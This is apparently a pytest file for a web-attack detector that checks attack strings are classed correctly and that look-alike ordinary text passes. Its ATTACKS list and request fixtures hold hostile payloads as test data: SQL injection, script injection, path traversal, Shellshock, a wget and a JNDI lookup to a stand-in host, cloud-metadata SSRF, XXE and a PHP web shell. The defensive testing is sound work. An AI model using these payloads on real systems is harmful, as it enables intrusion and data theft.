"""Values that are attacks, and look-alikes that are data."""

from functools import cache

import pyarrow as pa
import pytest

from mailscope.detect.web_attack import attack_values, classified, values
from mailscope.store import engine
from tests.fixtures.rows import ibis_tables


def classes_of(given, *, sqli=None, xss=False):
    table = pa.table({
        "value": pa.array(given, pa.string()), "sqli": pa.array([sqli] * len(given), pa.string()),
        "xss": [xss] * len(given), "is_secret": [False] * len(given), "number": list(range(len(given))),
    })  # fmt: skip
    judged = classified(engine.add_arrow(engine.connect(), "given", table))
    return [row["attack"] for row in judged.order_by("number").to_pyarrow().to_pylist()]


ATTACKS = [
    ("sql-injection", "7 UNION/**/ALL SELECT login,3 FROM staff"),
    ("sql-injection", "x' oR 'a'='a"),
    ("sql-injection", "3) AND 71=(SELECT 71 FROM PG_SLEEP(4)) AND (5=5"),
    ("sql-injection", "1;DROP TABLE letters"),
    ("cross-site-scripting", '"><sCrIpT>fetch(1)</script>'),
    ("cross-site-scripting", "<img src=q onerror=confirm(3)>"),
    ("path-traversal", "../../../../etc/hosts"),
    ("path-traversal", "..\\..\\windows\\win.ini"),
    ("command-injection", "8.8.8.8; uname -a"),
    ("command-injection", "a`wget http://x.example/y`"),
    ("command-injection", "() { :; }; /bin/ls"),
    ("command-injection", "|c'a't /tmp/x"),
    ("file-inclusion", "php://filter/convert.base64-encode/resource=index"),
    ("template-injection", "{{5*5}}"),
    ("expression-injection", "${jndi:ldap://x.example/a}"),
    ("deserialisation", 'O:4:"User":1:{s:1:"a";i:1;}'),
    ("xml-external-entity", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'),
    ("server-side-request-forgery", "http://169.254.169.254/latest/meta-data/"),
    ("nosql-injection", '{"$ne": null}'),
    ("code-injection", "<?php system($_GET['a']); ?>"),
    ("header-injection", "a\r\nSet-Cookie: b=1"),
]
DATA = [
    "O'Neill and sons", "Please select one from the list", "rock & roll; more of it", "C:\\Users\\eve\\letter.doc",
    "5 or 6 people", "http://www.example.org/a?b=c", "Tom; he said: cat and dog", "../index.html", "a<b and c>d",
    "price > 5 && price < 9", "{{name}}", "50% off -- today only!", "2026-01-05T12:00:00Z", "eve@own.example",
    "Update: where is my order?", "{\"a\": [1, 2]}", "100 $ (net)", "like father, like son", "drop by on Monday",
]  # fmt: skip


@cache
def classes():
    """The class of every value of both lists, asked at once."""
    given = [value for _attack, value in ATTACKS] + DATA
    return dict(zip(given, classes_of(given), strict=True))


@pytest.mark.parametrize(("attack", "value"), ATTACKS)
def test_an_attack_is_named_by_its_class(attack, value):
    assert classes()[value] == attack


@pytest.mark.parametrize("value", DATA)
def test_data_is_let_pass(value):
    assert classes()[value] is None


def test_libinjection_alone_is_not_enough_without_a_mark():
    assert classes_of(["plain words"], sqli="n") == [None]
    assert classes_of(["1\" foo ('x"], sqli="1sf(s") == ["sql-injection"]


def test_an_xml_document_is_not_script():
    assert classes_of(["<?xml version='1.0'?><rdf:RDF xmlns:a='b'>"], xss=True) == [None]


def test_paths_and_programs_names_are_looked_at_though_nothing_was_decoded():
    request = {"flow_id": "F1", "exchange": 0, "client_addr": "198.51.100.7", "method": "GET", "status": 404}
    tables = ibis_tables(
        http_requests=[
            request | {"uri": "/a/../../../etc/hosts", "user_agent": "x"},
            request | {"exchange": 1, "uri": "/", "user_agent": "() { :; }; /bin/id"},
            request | {"exchange": 2, "uri": "/", "user_agent": "Mozilla/5.0 (X11; Linux x86_64; id)"},
        ]
    )
    given = values(tables("http_parameters"), tables("http_requests"))
    rows = attack_values(given).order_by("exchange").to_pyarrow().to_pylist()
    assert [(row["exchange"], row["attack"]) for row in rows] == [(0, "path-traversal"), (1, "command-injection")]
